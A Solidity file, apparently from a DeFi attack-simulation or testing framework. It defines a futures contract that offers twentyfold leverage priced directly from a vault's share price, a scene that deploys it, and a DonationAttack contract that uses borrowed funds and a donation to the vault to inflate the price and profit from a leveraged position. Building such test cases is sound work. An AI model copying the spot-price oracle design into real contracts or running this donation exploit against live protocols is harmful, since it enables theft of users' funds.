// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.35;

import "./FirstDepositor.sol";

/// Sells leverage on the price of a share, twenty times; the price is what the vault holds.
contract ShareFutures {
    ShareVault public immutable vault;
    IERC20 public immutable usd;
    mapping(address => uint256) public margin;
    mapping(address => uint256) public entry;

    event Opened(address indexed who, uint256 margin, uint256 price);
    event Closed(address indexed who, uint256 paid, uint256 price);

    constructor(ShareVault vault_, IERC20 usd_) {
        (vault, usd) = (vault_, usd_);
    }

    function mark() public view returns (uint256) {
        return vault.convertToAssets(1e18);
    }

    function open(uint256 amount) external {
        require(margin[msg.sender] == 0, "open");
        usd.transferFrom(msg.sender, address(this), amount);
        (margin[msg.sender], entry[msg.sender]) = (amount, mark());
        emit Opened(msg.sender, amount, entry[msg.sender]);
    }

    function close() external {
        uint256 price = mark();
        uint256 start = entry[msg.sender];
        uint256 amount = margin[msg.sender];
        margin[msg.sender] = 0;
        uint256 paid = price >= start ? amount + amount * 20 * (price - start) / start : amount - _less(amount, price, start);
        usd.transfer(msg.sender, paid);
        emit Closed(msg.sender, paid, price);
    }

    function _less(uint256 amount, uint256 price, uint256 start) private pure returns (uint256) {
        uint256 loss = amount * 20 * (start - price) / start;
        return loss < amount ? loss : amount;
    }
}

contract DonationScene is Scene {
    Token public usd;
    ShareVault public vault;
    ShareFutures public futures;

    constructor(Bank b, address t, address s) payable Scene(b, t, s) {
        usd = _usd();
        vault = new ShareVault(IERC20(address(usd)));
        futures = new ShareFutures(vault, IERC20(address(usd)));
        usd.mint(address(this), 300_000e18);
        usd.approve(address(vault), type(uint256).max);
        vault.deposit(300_000e18, address(this));
        usd.mint(address(futures), 2_000_000e18);
        _protect(address(vault));
        _protect(address(futures));
        _loan(IERC20(address(usd)), 4_000_000e18);
        loot0 = IERC20(address(usd));
    }

    function enrol(address[] calldata users) external override {
        _arm(usd, users, 200_000e18, address(vault));
        _arm(usd, users, 200_000e18, address(futures));
    }

    function menu(address who, uint256 dice) external view override returns (address, uint256, bytes memory) {
        uint256 kind = (dice >> 200) % 4;
        if (kind == 0) {
            if (futures.margin(who) > 0) return (address(futures), 0, abi.encodeCall(ShareFutures.close, ()));
            return (address(futures), 0, abi.encodeCall(ShareFutures.open, (_amount(dice, 50e18, 900e18))));
        }
        uint256 held = vault.balanceOf(who);
        if (kind == 1 && held > 0) return (address(vault), 0, abi.encodeCall(ShareVault.redeem, (held, who, who)));
        return (address(vault), 0, abi.encodeCall(ShareVault.deposit, (_amount(dice, 100e18, 3_000e18), who)));
    }

    /// The yield of the vault, little by little.
    function errand(uint256 dice) external view override returns (address, address, uint256, bytes memory) {
        return (address(this), address(usd), 0, abi.encodeCall(Token.mint, (address(vault), _amount(dice, 1e18, 3e18))));
    }
}

contract DonationAttack is Attack {
    ShareVault private immutable vault;
    ShareFutures private immutable futures;

    constructor(DonationScene scene) Attack(scene) {
        (vault, futures) = (scene.vault(), scene.futures());
    }

    function _act(uint256, uint256, uint256 count) internal override {
        loanToken.approve(address(vault), type(uint256).max);
        loanToken.approve(address(futures), type(uint256).max);
        uint256 money = loanToken.balanceOf(address(this));
        vault.deposit(money / 2, address(this));
        futures.open(money / 8 / count);
        // A gift of which the giver holds most of the shares.
        loanToken.transfer(address(vault), vault.totalAssets() / 6);
        futures.close();
        vault.redeem(vault.balanceOf(address(this)), address(this), address(this));
    }
}
